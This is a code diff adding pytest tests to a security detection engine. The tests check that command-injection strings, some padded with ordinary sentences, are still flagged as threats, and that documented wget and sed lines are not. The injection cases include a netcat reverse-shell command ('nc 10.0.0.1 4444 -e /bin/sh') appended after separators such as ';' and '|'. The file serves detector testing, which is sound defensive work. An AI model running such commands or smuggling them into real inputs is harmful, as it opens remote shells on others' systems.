@@ -10,6 +10,7 @@ from typing import Any
 import pytest
 
 from guard import SecurityConfig
+from guard.engine import detector
 from guard.engine.detector import DetectionEngine
 from guard.engine.matcher import HYPERSCAN_AVAILABLE
 from guard.engine.semantic import SemanticAnalyzer
@@ -283,6 +284,37 @@ def test_sentences_padded_onto_a_breakout_do_not_make_it_prose(
     """An attacker can append ordinary words to any payload; a value that opens by breaking out
     of its host syntax is judged as an attack, not as a sentence quoting one."""
     assert engine.detect(attack + PADDING)["is_threat"]
+
+
+@pytest.mark.parametrize("prefix", ["x", "report.pdf"])
+@pytest.mark.parametrize("separator", ["; ", "| ", "&& "])
+@pytest.mark.parametrize("command", ["id", "sleep 5", "nc 10.0.0.1 4444 -e /bin/sh"])
+@pytest.mark.parametrize("end", ["; ", " # ", " & "])
+def test_a_command_injected_after_a_value_survives_padding(
+    engine: DetectionEngine, prefix: str, separator: str, command: str, end: str
+) -> None:
+    """The usual shape of a command injection, ``<value><separator><command><end>``, followed
+    by sentences: the padding dilutes the model's features and makes the value read as prose,
+    and neither may cost the detection."""
+    assert engine.detect(prefix + separator + command + end + PADDING)["is_threat"]
+
+
+@pytest.mark.parametrize(
+    "value",
+    [
+        "wget -r -np -k https://docs.example.org/manual/ -o /home/me/mirror.log",
+        "sed -n 5,10p notes.txt",
+        "wget --mirror https://www.example.org/docs/ -P /srv/mirror",
+    ],
+)
+def test_the_model_doubts_one_shell_rule_on_a_documented_command(
+    engine: DetectionEngine, value: str, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """A command line as a manual shows it trips one shell rule, yet the model, on the value and
+    close around the match, is sure it is not an attack: the hit then counts for less."""
+    assert not engine.detect(value)["is_threat"]
+    monkeypatch.setattr(detector, "MODEL_DOUBT", 0.0)
+    assert engine.detect(value)["is_threat"]
 
 
 def _hostile_runs(n: int) -> list[str]:
